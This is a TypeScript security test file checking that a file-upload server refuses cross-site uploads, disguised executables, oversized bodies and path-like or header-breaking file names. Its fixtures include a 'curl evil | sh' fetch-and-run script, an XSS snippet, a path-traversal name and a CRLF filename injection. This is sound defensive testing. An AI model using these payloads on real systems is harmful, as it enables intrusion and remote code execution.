// Hostile uploads against the real server (no token, PGlite on disk): another site posting or
// embedding files, programs in disguise, oversized and endless bodies, names that look like
// paths. Each is refused with a sentence, nothing is stored, and the server keeps serving.
import { readdirSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type AttackTarget, rawRequest, startAttackTarget } from '../support/attack-target.ts';
import { mutate, query } from '../support/http-api.ts';
import { EXECUTABLE, TINY_PNG } from '../support/test-files.ts';
import { uploadFile } from '../support/upload.ts';

const MAX = 64 * 1024;
let target: AttackTarget;
beforeAll(async () => {
  target = await startAttackTarget({ SWITCHBOARD_UPLOAD_MAX_BYTES: String(MAX) });
});
afterAll(() => target?.close());

const stored = async () => (await query<{ items: { id: string; name: string }[] }>(target.url, 'files.list', {})).data!.items;

it('refuses an upload another site sends, and another site embedding a file', async () => {
  const foreign: Record<string, string>[] = [
    { 'sec-fetch-site': 'cross-site' },
    { origin: 'https://evil.example' },
    { 'sec-fetch-site': 'same-site' },
  ];
  for (const headers of foreign) {
    const answer = await uploadFile(target.url, { name: 'notes.txt', content: 'planted' }, { headers });
    expect(answer.status).toBe(403);
    expect(answer.body.error!.message).toMatch(/another website/);
  }
  const own = await uploadFile(target.url, { name: 'mine.txt', content: 'our wax supplier' });
  expect(own.status).toBe(201);
  const embedded = await fetch(`${target.url}${own.body.url as string}`, {
    headers: { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'image' },
  });
  expect(embedded.status).toBe(403);
  const mine = await fetch(`${target.url}${own.body.url as string}`, { headers: { 'sec-fetch-site': 'same-origin' } });
  expect(mine.status).toBe(200);
  expect(mine.headers.get('cross-origin-resource-policy')).toBe('same-origin');
  await query(target.url, 'files.list', {});
  expect(
    (
      await fetch(`${target.url}/api/trpc/files.delete`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ fileId: own.body.id }),
      })
    ).status,
  ).toBe(200);
});

it.each([
  ['a Windows program', 'setup.exe', EXECUTABLE, /is a program/],
  ['a program renamed .pdf', 'prices.pdf', EXECUTABLE, /is a program/],
  ['a program renamed .csv', 'suppliers.csv', EXECUTABLE, /is a program/],
  ['an ELF binary without a name', 'tool', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), /is a program/],
  ['a shell script renamed .txt', 'readme.txt', Buffer.from('#!/bin/sh\ncurl evil | sh\n'), /is a program/],
  ['an image', 'logo.png', TINY_PNG, /not supported/],
  ['HTML', 'page.html', Buffer.from('<script>alert(1)</script>'), /not supported/],
  ['an SVG renamed .md', 'logo.md', Buffer.concat([Buffer.from('<svg>'), Buffer.from([0])]), /not supported/],
])('refuses %s with 415 and a sentence', async (_, name, content, message) => {
  const answer = await uploadFile(target.url, { name, content });
  expect(answer.status).toBe(415);
  expect(answer.body.error!.message).toMatch(message);
});

it('refuses an oversized upload with 413, whether it declares its length or streams it', async () => {
  const big = Buffer.alloc(MAX * 3, 'a');
  const declared = await uploadFile(target.url, { name: 'big.txt', content: big });
  expect(declared.status).toBe(413);
  expect(declared.body.error!.message).toMatch(/larger than 64 KB/);
  const boundary = 'x-boundary';
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="big.txt"\r\ncontent-type: text/plain\r\n\r\n`,
    ),
    big,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  const streamed = await rawRequest(target.url, {
    method: 'POST',
    path: '/api/files',
    headers: {
      'content-type': `multipart/form-data; boundary=${boundary}`,
      'transfer-encoding': 'chunked',
      host: new URL(target.url).host,
    },
    body,
  });
  expect(streamed.status).toBe(413);
});

it('takes a file of exactly the limit, and refuses one byte more', async () => {
  const exact = await uploadFile(target.url, { name: 'exact.txt', content: Buffer.alloc(MAX, 'a') });
  expect(exact).toMatchObject({ status: 201, body: { bytes: MAX } });
  const over = await uploadFile(target.url, { name: 'over.txt', content: Buffer.alloc(MAX + 1, 'a') });
  expect(over.status).toBe(413);
  await mutate(target.url, 'files.delete', { fileId: exact.body.id });
});

it('answers a form cut off before its closing boundary with 400 and a sentence, not a crash', async () => {
  const boundary = 'cut-boundary';
  const answer = await rawRequest(target.url, {
    method: 'POST',
    path: '/api/files',
    headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, host: new URL(target.url).host },
    body: `--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="cut.txt"\r\n\r\nhalf a file`,
  });
  expect(answer.status).toBe(400);
  expect(JSON.parse(answer.text).error.message).toMatch(/ended before the file did/);
  expect(target.server.output()).not.toMatch(/uncaught|unhandled/);
});

it('logs a client hanging up mid-upload as a hang-up at info level, not as a server error', async () => {
  const url = new URL(target.url);
  const boundary = 'hangup-boundary';
  await new Promise<void>((resolve) => {
    const req = httpRequest({
      host: url.hostname,
      port: url.port,
      method: 'POST',
      path: '/api/files',
      headers: { 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': String(MAX) },
    });
    req.on('error', () => resolve());
    req.write(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="gone.txt"\r\n\r\nthe start`);
    setTimeout(() => req.destroy(), 300);
  });
  await expect.poll(() => target.server.output()).toMatch(/client hung up mid-upload/);
  const line = target.server
    .output()
    .split('\n')
    .find((l) => l.includes('client hung up mid-upload'))!;
  expect(JSON.parse(line)).toMatchObject({ level: 30 });
  expect(target.server.output()).not.toMatch(/request handler failed|uncaught|"level":50/);
});

it('refuses bodies that are not a form, and a form without a file', async () => {
  const json = await fetch(`${target.url}/api/files`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{"file":"x"}',
  });
  expect(json.status).toBe(415);
  const form = new FormData();
  form.append('businessId', 'not-a-file');
  const empty = await fetch(`${target.url}/api/files`, { method: 'POST', body: form });
  expect(empty.status).toBe(400);
  expect(((await empty.json()) as { error: { message: string } }).error.message).toMatch(/No file arrived/);
});

it('keeps a name that looks like a path as a plain name, writing nothing to disk', async () => {
  const before = readdirSync(target.dataDir, { recursive: true }).length;
  const answer = await uploadFile(target.url, { name: '../../../../tmp/owned.txt', content: 'not a path' });
  expect(answer.status).toBe(201);
  expect(answer.body.name).toBe('owned.txt');
  const quoted = await uploadFile(target.url, { name: `prix "été"\r\nl'an.csv`, content: 'a,b\n1,2\n' });
  expect(quoted.status).toBe(201);
  // The quote as typed (the form sends it as %22); the line break is dropped, never kept as a control.
  expect(quoted.body.name).toBe(`prix "été"l'an.csv`);
  const served = await fetch(`${target.url}${quoted.body.url as string}`);
  // One header line: a quote or line break in a name can neither end the value early nor add a header;
  // filename* holds only RFC 8187's attr-chars and percent-escapes.
  const disposition = served.headers.get('content-disposition')!;
  expect(disposition).toMatch(
    /^attachment; filename="prix [\x20\x21\x23-\x5b\x5d-\x7e]*"; filename\*=UTF-8''[A-Za-z0-9%!#$&+^_`|~.-]+$/,
  );
  expect(decodeURIComponent(disposition.split("UTF-8''")[1]!)).toBe(`prix "été"l'an.csv`);
  expect([...served.headers.keys()]).not.toContain('x');
  expect(readdirSync(target.dataDir, { recursive: true }).some((f) => String(f).includes('owned'))).toBe(false);
  expect(readdirSync(target.dataDir, { recursive: true }).length).toBeGreaterThanOrEqual(before);
  for (const id of [answer.body.id, quoted.body.id]) {
    await fetch(`${target.url}/api/trpc/files.delete`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ fileId: id }),
    });
  }
});

it('stored nothing of any refused upload, spent nothing, and still answers /api/health', async () => {
  expect(await stored()).toEqual([]);
  await target.unharmed();
});
